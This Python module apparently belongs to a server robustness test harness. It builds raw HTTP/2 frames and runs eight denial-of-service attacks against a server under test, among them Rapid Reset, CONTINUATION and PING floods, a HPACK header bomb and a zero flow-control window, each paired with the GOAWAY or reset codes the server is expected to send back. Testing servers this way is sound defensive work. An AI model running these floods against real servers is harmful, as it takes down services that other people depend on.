"""Attacks by HTTP/2, frame by frame: resets, floods, and headers that cost more than they weigh."""

from collections.abc import Iterator
from itertools import count

from .enemy import END, Attack, Enemy, Field

__all__ = [
    "ContinuationFlood",
    "EmptyFrames",
    "HeaderBomb",
    "Http2PingFlood",
    "MadeToReset",
    "RapidReset",
    "SettingsFlood",
    "ShutWindow",
]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 3, 4, 6, 7, 8, 9,
)  # fmt: skip
END_STREAM, END_HEADERS = 0x1, 0x4
#: What a client gets that has to calm down: GOAWAY with ENHANCE_YOUR_CALM.
CALM = "goaway 11"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def fields(path: bytes = b"/") -> bytes:
    """GET it, by the static table of RFC 7541 and without Huffman's code."""
    return b"\x82\x86\x41\x09localhost\x04" + bytes([len(path)]) + path


class Http2Attack(Attack):
    """One enemy's frames, again and again, until it is told to go away."""

    deserves = frozenset({CALM})
    crowd = 10
    #: What SETTINGS say, in pairs of two and four bytes.
    settings = b""

    async def assail(self, field: Field) -> None:
        async def one(enemy: Enemy) -> str:
            async def flood() -> None:
                await enemy.send(PREFACE + frame(SETTINGS, 0, 0, self.settings))
                for piece, blows in self.pieces(field):
                    await enemy.send(piece)
                    field.blows += blows

            return await enemy.while_sending(flood(), self._end(enemy))

        await field.crowd(self.crowd, one)

    async def _end(self, enemy: Enemy) -> str:
        """Read on until the connection is told to end."""
        while True:
            head = await enemy.exactly(9)
            if not head:
                return END
            payload = await enemy.exactly(int.from_bytes(head[:3]))
            if head[3] == GOAWAY:
                return f"goaway {int.from_bytes(payload[4:8])}"
            if outcome := self.outcome(head[3], payload):
                return outcome

    def outcome(self, kind: int, payload: bytes) -> str | None:
        """What ends it beside a GOAWAY."""
        return None

    def pieces(self, field: Field) -> Iterator[tuple[bytes, int]]:
        """What is sent, and how many blows it counts for."""
        raise NotImplementedError


class RapidReset(Http2Attack):
    """Requests that are reset as soon as they are made."""

    key = "rapid-reset"

    def pieces(self, field: Field) -> Iterator[tuple[bytes, int]]:
        for first in count(1, 200):
            yield (
                b"".join(
                    frame(HEADERS, END_STREAM | END_HEADERS, stream, fields(b"/big"))
                    + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                    for stream in range(first, first + 200, 2)
                ),
                100,
            )


class MadeToReset(Http2Attack):
    """Requests with a mistake each, so that the server resets them itself."""

    key = "made-to-reset"

    def pieces(self, field: Field) -> Iterator[tuple[bytes, int]]:
        for first in count(1, 200):
            yield (
                b"".join(
                    frame(HEADERS, END_HEADERS, stream, fields())
                    + frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0")
                    for stream in range(first, first + 200, 2)
                ),
                100,
            )


class ContinuationFlood(Http2Attack):
    """Headers that are continued without end, by something or by nothing."""

    key = "continuation-flood"
    deserves = frozenset({CALM, "goaway 1"})

    def pieces(self, field: Field) -> Iterator[tuple[bytes, int]]:
        yield frame(HEADERS, END_STREAM, 1, fields()), 1
        payload = field.chance.choice([b"", b"\x00\x01a\x01b" * 1000])
        more = frame(CONTINUATION, 0, 1, payload) * 20
        while True:
            yield more, 20


class SettingsFlood(Http2Attack):
    """SETTINGS without end, each of which wants an answer."""

    key = "settings-flood"

    def pieces(self, field: Field) -> Iterator[tuple[bytes, int]]:
        more = (frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff") + frame(SETTINGS, 0, 0)) * 200
        while True:
            yield more, 400


class Http2PingFlood(Http2Attack):
    """PING frames without end, each of which wants an answer."""

    key = "h2-ping-flood"

    def pieces(self, field: Field) -> Iterator[tuple[bytes, int]]:
        more = frame(PING, 0, 0, b"12345678") * 500
        while True:
            yield more, 500


class EmptyFrames(Http2Attack):
    """DATA frames that hold nothing, and never end."""

    key = "empty-frames"

    def pieces(self, field: Field) -> Iterator[tuple[bytes, int]]:
        yield frame(HEADERS, END_HEADERS, 1, b"\x83" + fields()[1:]), 1
        more = frame(DATA, 0, 1) * 500
        while True:
            yield more, 500


class HeaderBomb(Http2Attack):
    """One long field in the table, and then thousands of references of one byte to it."""

    key = "header-bomb"
    deserves = frozenset({CALM, "goaway 9", "goaway 1"})

    def pieces(self, field: Field) -> Iterator[tuple[bytes, int]]:
        long = b"\x40\x01x\x7f\xa1\x1e" + b"a" * 4000  # 127 + 3873
        cookies = field.chance.random() < 0.5
        bomb = b"\xbe" * 15_000 if not cookies else b"\x60\x01a" * 5_000
        yield frame(HEADERS, END_STREAM | END_HEADERS, 1, fields() + long), 1
        for stream in count(3, 2):
            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, fields() + bomb), 1


class ShutWindow(Http2Attack):
    """Requests for a response without end, and a window that never opens."""

    key = "shut-window"
    serve = ("--write-timeout", "1")
    settings = b"\0\x04\0\0\0\0"
    deserves = frozenset({"reset 8", "reset 11", "reset 2", CALM, "goaway 0"})
    least_s = 4.0

    def pieces(self, field: Field) -> Iterator[tuple[bytes, int]]:
        for stream in range(1, 161, 2):
            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, fields(b"/big")), 1

    def outcome(self, kind: int, payload: bytes) -> str | None:
        return f"reset {int.from_bytes(payload)}" if kind == RST_STREAM else None
